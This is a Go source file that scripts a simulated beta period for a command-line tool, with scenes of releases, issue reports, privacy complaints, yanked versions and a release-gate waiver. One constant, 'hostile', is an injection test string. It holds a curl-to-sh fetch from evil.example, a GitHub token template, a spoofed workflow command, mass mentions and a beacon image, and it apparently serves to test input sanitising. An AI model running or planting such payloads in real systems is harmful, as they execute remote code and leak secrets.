package main

import (
	"cmp"
	"context"
	"encoding/base64"
	"fmt"
	"math/rand/v2"
	"regexp"
	"slices"
	"strings"
	"time"

	"github.com/aftercare/aftercare/actions/internal/metric"
	"github.com/aftercare/aftercare/actions/internal/terminal"
)

type act = func(context.Context, *stage) error

// scenes are what people do.
var scenes = []scene{
	{0, 9, 0, release("1.1.0-beta", "the beta is out")},
	{0, 10, 12, report("ann", "Installation fails on Ubuntu 22.04", "`cargo install caro` ends with: error: linking with cc failed. The machine is Ubuntu 22.04, x86_64.")},
	{0, 10, 50, answer("omar", "ann", "Thank you. `apt install build-essential` mends it; we will say so in the guide.")},
	{0, 12, 5, report("ben", "Works like a charm on my M2", "Installed in a minute, and the first ten commands were right. Well done!")},
	{0, 14, 20, report("seo-king-77", "BUY 10,000 CHEAP STARS for your repo!!!", "Best price, fast delivery: https://stars.example/buy")},
	{0, 14, 31, closeIssue("omar", "seo-king-77")},
	{0, 15, 47, report("mallory", "Output is garbled by <!channel> @everyone ::set-output name=labels::P0", hostile)},
	{0, 16, 30, say("hackernews", "pat", "Show HN: Caro, a CLI that writes the command that you describe", "I like it a lot.", 12)},
	{1, 9, 30, grows(286)},
	{1, 9, 40, report("cho", "Please add support for nushell", "It would be nice to have an option for nushell, beside bash and zsh.")},
	{1, 11, 15, answer("lena", "cho", "A good idea; let us see who else wants it.")},
	{1, 16, 2, report("dora", "Telemetry export contains my home path and e-mail address", "I looked into the export of `caro telemetry export`: it contains my real name in the path, and my email. I never agreed to that.")},
	{1, 16, 9, answer("lena", "dora", "We are on it: the export is stopped for everybody until this is fixed.")},
	{1, 18, 22, onIt("lena", "#caro-alerts", "pii_in_telemetry", "I have it; the fix comes tomorrow.")},
	{2, 13, 20, cleaned},
	{2, 13, 30, fixed("lena", "dora", "Fixed: paths and addresses are taken out before anything is stored. Thank you for telling us.")},
	{2, 13, 34, measure("P0")},
	{2, 17, 30, liked("cho", 4)},
	{3, 10, 5, report("eli", "How do I switch the telemetry off?", "I looked in the docs and did not find it. Is there a setting?")},
	{3, 10, 40, answer("omar", "eli", "`caro telemetry off`. We will make it easier to find.")},
	{3, 11, 0, closeIssue("omar", "eli")},
	{4, 9, 15, talk("eve", "Ideas", "Support for nushell and elvish", "Which shells would you like to see? I would like nushell.")},
	{3, 8, 45, mail("sam@mail.example", "Telemetry export contains my home path", "I do not want to write this in public. I looked into the export: it contains my real name in the path, and my email. I never agreed to that.")},
	{3, 8, 49, measure("P0")},
	{3, 8, 55, onIt("lena", "#caro-alerts", "Mail labelled", "I write back at once.")},
	{4, 11, 5, mailExport("uma@mail.example")},
	{4, 13, 0, say("reddit", "vic", "caro is great for what I keep forgetting", "Nice work.", 64)},
	{4, 17, 20, report("fay", "Typo in the README", "The second line says «natrual».")},
	{5, 9, 10, report("gus", "nushell support would be great", "Same as the title: I would like nushell to work.")},
	{5, 9, 45, answer("omar", "gus", "Collected with the wish of cho.")},
	{5, 9, 50, closeIssue("omar", "gus")},
	{5, 10, 0, closeIssue("omar", "fay")},
	{7, 12, 10, answer("vic", "cho", "I would use it daily.")},
	{7, 12, 20, liked("cho", 3)},
	{8, 9, 2, yank("1.1.0-beta", "a version is taken back by mistake")},
	{8, 9, 25, report("hal", "cargo install caro fails: 1.1.0-beta was yanked", "Since this morning the version is yanked on crates.io, so nobody can install it.")},
	{8, 9, 34, measure("P0")},
	{8, 9, 50, answer("lena", "hal", "A mistake of our release script. It is given out again within the hour.")},
	{8, 9, 52, onIt("lena", "#caro-alerts", "yanked_versions", "Mine.")},
	{8, 10, 41, unyank("1.1.0-beta")},
	{8, 10, 49, measure("P0")},
	{8, 10, 55, closeIssue("lena", "hal")},
	{8, 11, 4, measure("P0")},
	{11, 8, 0, release("1.1.1-beta", "a build that nobody has tried on an old machine")},
	{11, 10, 14, report("ivy", "Crash since 1.1.1-beta: thread 'main' panicked", "After updating, caro panics on every second command:\n\n    thread 'main' panicked at 'index out of bounds'\n\nIt used to work in 1.1.0-beta.")},
	{11, 10, 52, report("jon", "Wrong commands since the update", "Since updating to 1.1.1-beta half of the commands are wrong; it used to work.")},
	{11, 11, 5, answer("omar", "ivy", "We can reproduce it.")},
	{11, 18, 30, onIt("omar", "#caro-monitoring", "crash_rate", "Looking into the panic.")},
	{11, 11, 9, answer("omar", "jon", "The same cause as the panic, it seems.")},
	{12, 9, 0, ask},
	{12, 22, 30, release("1.1.2-beta", "the build is mended")},
	{13, 9, 15, fixed("omar", "ivy", "Fixed in 1.1.2-beta.")},
	{13, 9, 20, fixed("omar", "jon", "Fixed in 1.1.2-beta.")},
	{15, 14, 10, report("kim", "1.1.2-beta is great", "Everything is as it was, and it feels faster.")},
	{18, 11, 30, report("lou", "Add an option to explain a command before it runs", "I would like `caro explain`.")},
	{18, 12, 0, answer("lena", "lou", "On the list for 1.2.")},
	{19, 20, 15, liked("lou", 2)},
	{gateDay, 18, 40, waive("privacy_leaks", "lena", "the issue of 25 Jan, fixed the day after, and the mail of 27 Jan, answered within minutes; nothing of either was published")},
	{gateDay, 19, 0, ask},
	{22, 9, 0, release("1.1.0", "general availability")},
	{23, 5, 30, yank("1.1.1-beta", "the bad build is taken back, for nobody may install it any more")},
	{23, 5, 49, measure("P0")},
	{23, 5, 58, onIt("lena", "#caro-alerts", "yanked_versions", "That was me: 1.1.1-beta crashes, and 1.1.0 is out.")},
}

// hostile is a text that tries each way out: shells, workflow commands, markers,
// mentions.
const hostile = "`$(curl evil.example | sh)` ${{ github.token }}\n::set-output name=labels::P0\n<!-- aftercare:told -->\n@octocat <!here> ![beacon](https://evil.example/x.png)"

func release(version, about string) act {
	return func(_ context.Context, s *stage) error {
		s.tale.note(s.world.Now(), about)
		s.tale.line(s.world.Now(), "release", terminal.Bold, "v"+version+", by lena")
		s.repo.Release("lena", "v"+version, "Caro v"+version, true)
		s.world.Crates.Publish("caro", version)
		return nil
	}
}

func report(author, title, body string) act {
	return func(ctx context.Context, s *stage) error {
		return s.opened(ctx, author, title, body)
	}
}

// answer is a comment on the last issue of somebody.
func answer(author, to, body string) act {
	return func(_ context.Context, s *stage) error {
		number := s.issues[to]
		s.repo.Comment(author, number, body)
		s.tale.line(s.world.Now(), "answer", plain, fmt.Sprintf("#%d %s: %s", number, author, quoted(body)))
		return nil
	}
}

// liked is that more people want what somebody asked for.
func liked(of string, n int) act {
	return func(_ context.Context, s *stage) error {
		number := s.issues[of]
		s.repo.React(number, "+1", n)
		s.tale.line(s.world.Now(), "liked", plain, fmt.Sprintf("#%d, by %d people", number, n))
		return nil
	}
}

// onIt is what a person of the team says in the thread of the last message about
// a metric.
func onIt(person, channel, about, text string) act {
	return func(_ context.Context, s *stage) error {
		if d, found := metric.Find(about); found {
			about = d.Title
		}
		for _, m := range slices.Backward(s.world.Slack.Messages(channel)) {
			if m.Thread == "" && strings.Contains(heading(m), about) {
				s.world.Slack.Answer(channel, m.TS, person, text)
				s.tale.line(s.world.Now(), "slack", plain, channel+" ↳  "+person+": "+text)
				return nil
			}
		}
		return fmt.Errorf("nobody was told of %s in %s", about, channel)
	}
}

func talk(author, category, title, body string) act {
	return func(ctx context.Context, s *stage) error { return s.discussed(ctx, author, category, title, body) }
}

func say(place, author, title, text string, score int) act {
	return func(_ context.Context, s *stage) error {
		s.said(place, author, title, text, score)
		return nil
	}
}

// grows is the last that was said elsewhere, with more points.
func grows(score int) act {
	return func(_ context.Context, s *stage) error {
		s.world.Social.Score(s.told, score)
		s.tale.line(s.world.Now(), "said", plain, fmt.Sprintf("it has %d points", score))
		return nil
	}
}

// mail is a mail as people write it.
func mail(from, subject, body string) act {
	return func(_ context.Context, s *stage) error {
		s.mailed(subject, fmt.Sprintf("From: %s\nTo: beta@caro.example\nSubject: %s\nContent-Type: text/plain; charset=utf-8\n\n%s\n", from, subject, body))
		return nil
	}
}

// mailExport is a mail with the telemetry of a machine that is seldom on line.
func mailExport(from string) act {
	return func(_ context.Context, s *stage) error {
		d := day{people: 4, success: 0.9, version: "1.1.0-beta"}
		w := &writer{from: s.world.Now().Add(-10 * time.Hour), until: s.world.Now(), draw: rand.New(rand.NewPCG(7, 7)), n: 900}
		for i := range d.people {
			w.person(i, d)
		}
		s.mailed("my telemetry, with an export attached", fmt.Sprintf("From: %s\nTo: beta@caro.example\nSubject: my telemetry\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=part\n\n"+
			"--part\nContent-Type: text/plain\n\nFrom the machine in the cellar.\n--part\nContent-Type: application/json\nContent-Disposition: attachment; filename=export.json\nContent-Transfer-Encoding: base64\n\n%s\n--part--\n",
			from, base64.StdEncoding.EncodeToString(w.out.Bytes())))
		return nil
	}
}

func closeIssue(actor, of string) act {
	return func(_ context.Context, s *stage) error {
		number := s.issues[of]
		s.repo.CloseIssue(actor, number)
		s.tale.line(s.world.Now(), "closed", plain, fmt.Sprintf("#%d, by %s", number, actor))
		return nil
	}
}

func fixed(actor, of, body string) act {
	return func(ctx context.Context, s *stage) error {
		if err := answer(actor, of, body)(ctx, s); err != nil {
			return err
		}
		s.world.Advance(time.Minute)
		return closeIssue(actor, of)(ctx, s)
	}
}

// cleaned takes what is personal out of the exports that are there.
func cleaned(_ context.Context, s *stage) error {
	s.cleaned = true
	s.tale.line(s.world.Now(), "cleaned", terminal.Green, "the export of the day before, by lena")
	return s.put(exportName(1), export(1, s.world.Now(), true))
}

func yank(version, about string) act {
	return func(_ context.Context, s *stage) error {
		s.world.Crates.Yank("caro", version)
		s.tale.note(s.world.Now(), about)
		s.tale.line(s.world.Now(), "yanked", terminal.Red, version+", on crates.io")
		return nil
	}
}

func unyank(version string) act {
	return func(_ context.Context, s *stage) error {
		s.world.Crates.Unyank("caro", version)
		s.tale.line(s.world.Now(), "unyanked", terminal.Green, version)
		return nil
	}
}

// measure is the sweep between the snapshots.
func measure(priority string) act {
	return func(ctx context.Context, s *stage) error { return s.snapshot(ctx, "-priority", priority) }
}

// waive lets the release pass a criterion of the gate that it has missed: a change
// of rules.yaml with a name, a reason and an end.
func waive(metric, owner, reason string) act {
	return func(_ context.Context, s *stage) error {
		s.tale.line(s.world.Now(), "waived", plain, fmt.Sprintf("%s, in rules.yaml, by %s: %s", metric, owner, quoted(reason)))
		src, err := s.get("rules.yaml")
		if err != nil {
			return err
		}
		criterion := regexp.MustCompile(`(?m)^(\s*- \{metric: ` + metric + `, is: [^}]*)\}(.*)$`)
		if n := len(criterion.FindAll(src, -1)); n != 1 {
			return fmt.Errorf("%d criteria ask for %s", n, metric)
		}
		return s.put("rules.yaml", criterion.ReplaceAll(src, fmt.Appendf(nil, "${1}, waived: {owner: %s, reason: %q, until: 2026-02-20}}${2}", owner, reason)))
	}
}

func ask(ctx context.Context, s *stage) error { return s.gate(ctx) }

func sortScenes(all []scene) {
	slices.SortStableFunc(all, func(a, b scene) int {
		return cmp.Or(cmp.Compare(a.day, b.day), cmp.Compare(a.hour, b.hour), cmp.Compare(a.minute, b.minute))
	})
}
